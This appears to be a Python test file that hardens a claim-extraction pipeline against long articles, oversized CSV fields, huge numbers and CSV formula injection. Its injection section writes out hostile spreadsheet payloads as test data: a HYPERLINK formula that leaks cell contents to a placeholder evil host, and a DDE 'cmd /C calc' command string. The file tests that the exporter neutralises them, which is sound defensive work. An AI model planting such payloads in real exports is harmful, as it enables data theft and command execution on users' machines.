"""Issue 14, hardening: long articles, CSV cells no spreadsheet runs and no
csv reader refuses, exports that never clobber (tests/test_export.py), state
files and names that cannot crash a run, the edges of the file system and
the process, and numbers too big for a float. Each test pins a case that
crashed or misbehaved before."""
import csv
import io
import json
import math
import sqlite3

import pytest
from click.testing import CliRunner

from pipeline import extract_claims, ingest
from pipeline.cli import cli
from pipeline.model import Claim
from pipeline.nlp import split_text
from pipeline.numbers import find_quantities
from pipeline.report.table import MAX_CSV_TEXT, claims_csv

FIGURE = "The agency said it received about 29.2 million reports in 2024.\n"
FILLER = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor. " * 10


def long_text(chars: int) -> str:
    """An article of about ``chars`` characters: filler paragraphs (which
    the model's pre-filter blanks, so this stays quick) and a figure now and
    then, the last one near the end."""
    block = (FILLER + "\n") * 40 + FIGURE
    return block * (chars // len(block) + 1)


def invoke(*args, **kwargs):
    return CliRunner().invoke(cli, [str(a) for a in args], **kwargs)


def check(src, tmp_path, *extra):
    return invoke("check", src, "--claims-dir", tmp_path / "claims",
                  "--reports-dir", tmp_path / "reports", *extra)


def assert_one_line_error(result, *words):
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("Error: ")
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.output
    for w in words:
        assert w in result.stderr


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# --- long articles ----------------------------------------------------------

def test_split_text_joins_back_and_cuts_after_line_breaks():
    text = "a b c\n" * 50 + "x" * 40 + " " + "y" * 30
    assert split_text(text, 1000) == [text]
    pieces = split_text(text, 100, piece=25)
    assert "".join(pieces) == text and all(len(p) <= 25 for p in pieces)
    assert all(p.endswith("\n") for p in pieces[:-4])
    assert pieces[-4:] == ["x" * 25, "x" * 15 + " ", "y" * 25, "y" * 5]


def test_text_over_spacy_max_length_is_read_in_pieces(tmp_path):
    text = long_text(1_200_000)
    assert len(text) > 1_000_000
    src = tmp_path / "sources"
    src.mkdir()
    (src / "long.txt").write_text(text, encoding="utf-8")
    r = check(src, tmp_path)
    assert r.exit_code == 0, r.output
    rows = read_csv((tmp_path / "claims" / "claims.csv").read_text(encoding="utf-8"))
    assert len(rows) == text.count(FIGURE)  # "about 29.2 million" in each
    for row in rows:
        start, end = int(row["start_char"]), int(row["end_char"])
        assert text[start:end] == row["text"]
    assert int(rows[-1]["start_char"]) > 1_000_000


def test_long_standard_input_is_read_in_pieces():
    text = long_text(1_080_000)
    r = invoke("extract", "-", "-f", "jsonl", input=text.encode("utf-8"))
    assert r.exit_code == 0, r.stderr
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert rows and all(text[c["start_char"]:c["end_char"]] == c["text"] for c in rows)
    assert max(c["end_char"] for c in rows) > 1_000_000


def test_no_csv_field_breaks_a_standard_reader(tmp_path):
    # a page without line breaks: its sentence is longer than csv's field limit
    line = "x" * 150_000 + " and 12 people came."
    (tmp_path / "a.txt").write_text(line + "\n", encoding="utf-8")
    r = invoke("extract", tmp_path / "a.txt", "-f", "csv")
    assert r.exit_code == 0, r.stderr
    rows = read_csv(r.stdout)  # csv's default limit: 131,072 characters
    assert rows and all(len(v) <= MAX_CSV_TEXT for row in rows for v in row.values())
    assert rows[0]["sentence"].endswith("…")
    json_rows = json.loads(invoke("extract", tmp_path / "a.txt", "-f", "json").stdout)
    assert len(json_rows[0]["sentence"]) > MAX_CSV_TEXT  # JSON keeps it whole


# --- CSV formula injection ----------------------------------------------------

EVIL = ('=HYPERLINK("http://evil.example/?leak="&A1,"12 people were hurt")\n'
        "+12+cmd|' /C calc'!A0 said 40 people came in 2024.\n"
        "@SUM(1+1) 300 jobs were cut in 2022.\n"
        "Sales fell by -3.5% in 2024, the company said.\n")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula_cells(rows: list[dict], numeric=("value", "low", "high", "start_char",
                                                       "end_char", "confidence")):
    for row in rows:
        for k, v in row.items():
            if k in numeric:
                float(v or "nan")  # numbers stay numbers
            elif v[:1] in FORMULA:
                assert v.lstrip("+-").replace(".", "", 1).rstrip("%").isdigit(), (k, v)


def test_claims_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path):
    src = tmp_path / "sources"
    src.mkdir()
    (src / "evil.txt").write_text(EVIL, encoding="utf-8")
    assert check(src, tmp_path).exit_code == 0
    rows = read_csv((tmp_path / "claims" / "claims.csv").read_text(encoding="utf-8"))
    assert_no_formula_cells(rows)
    sentences = {r["sentence"] for r in rows}
    assert "'@SUM(1+1) 300 jobs were cut in 2022." in sentences
    assert any(s.startswith("'=HYPERLINK(") for s in sentences)
    drop = next(r for r in rows if r["text"] == "-3.5%")
    assert drop["value"] == "-3.5" and drop["text"] == "-3.5%"  # a signed number is data
    # extract -f csv writes the same cells; JSON keeps the text exact
    out = invoke("extract", src / "evil.txt", "-f", "csv").stdout
    assert_no_formula_cells(read_csv(out))
    exact = json.loads(invoke("extract", src / "evil.txt", "-f", "json").stdout)
    assert any(c["sentence"].startswith("=HYPERLINK(") for c in exact)
    # and so does the SQLite export, read back from claims.csv
    db = tmp_path / "claims.db"
    r = invoke("export", "--sqlite", db, "--claims-dir", tmp_path / "claims",
               "--reports-dir", tmp_path / "reports", "--sources-dir", src)
    assert r.exit_code == 0, r.output
    with sqlite3.connect(db) as con:
        stored = {s for (s,) in con.execute("select sentence from claims")}
    assert stored == {c["sentence"] for c in exact}


def test_frame_and_list_tables_write_the_same_safe_csv():
    claim = Claim("c1", "s", "=1+2 and '=3 said 12 people", 17, 19, "12", "count", -12.0,
                  -12.5, -11.5, unit="+")
    from pipeline.api import claims_frame
    text = claims_csv([claim])
    assert text == claims_csv(claims_frame([claim]))
    (row,) = read_csv(text)
    assert row["sentence"] == "'=1+2 and '=3 said 12 people" and row["unit"] == "'+"
    assert row["value"] == "-12.0"


@pytest.mark.parametrize("value", ["=cmd", "'=cmd", "''@x", "-2+3", "+", "'hello", "-3.5",
                                   "plain", "\tx", ""])
def test_csv_cells_read_back_exactly(value):
    from pipeline.files import csv_cell, csv_value
    assert csv_value(csv_cell(value)) == value
    assert csv_cell(value)[:1] not in ("=", "+", "@", "\t") or value in ("-3.5",)


def test_reviews_and_sources_csv_neutralise_and_read_back(sources_copy, tmp_path):
    art = tmp_path / "new.txt"
    art.write_text("Sales rose 12% to 300 units in 2024.\n", encoding="utf-8")
    r = invoke("add", art, "--sources-dir", sources_copy, "--title", '=HYPERLINK("x")')
    assert r.exit_code == 0, r.output
    text = (sources_copy / "sources.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert ingest.read_metadata(sources_copy)["new.txt"]["title"] == '=HYPERLINK("x")'
    assert check(sources_copy, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    fid = doc["findings"][0]["finding_id"]
    r = invoke("review", fid, "--verdict", "dismissed", "--note", "@SUM(A1)", "--by", "-me",
               "--reports-dir", tmp_path / "reports")
    assert r.exit_code == 0, r.output
    (row,) = read_csv((tmp_path / "reports" / "reviews.csv").read_text())
    assert row["note"] == "'@SUM(A1)" and row["by"] == "'-me"
    assert check(sources_copy, tmp_path).exit_code == 0
    doc = json.loads((tmp_path / "reports" / "findings.json").read_text())
    review = next(f["review"] for f in doc["findings"] if f["finding_id"] == fid)
    assert review["note"] == "@SUM(A1)" and review["by"] == "-me"


# --- numbers too big for a float -----------------------------------------------

HUGE = [
    "It cost 1" + "0" * 320 + " dollars in 2024.",
    "Between 5 and " + "9" * 400 + " people came.",
    "From 1" + "0" * 400 + " to 2" + "0" * 400 + " units.",
    "1" + "0" * 400 + "-2" + "0" * 400 + " people",
    "A total of " + "9" * 310 + "e-900 cases.",
    "1" + "0" * 305 + " billion people",
]


@pytest.mark.parametrize("text", HUGE, ids=range(len(HUGE)))
def test_numbers_beyond_a_float_are_no_figures(text):
    for q in find_quantities(text):
        assert math.isfinite(q.value) and not math.isnan(q.low) and not math.isnan(q.high)
    assert not any(q.value > 1e300 for q in find_quantities(text))


def test_huge_numbers_give_no_nan_claims():
    frame = extract_claims(" ".join(HUGE) + " Sales rose 12% in 2024.")
    assert not frame[["value", "low", "high"]].isna().any().any()
    assert "12%" in set(frame["text"])
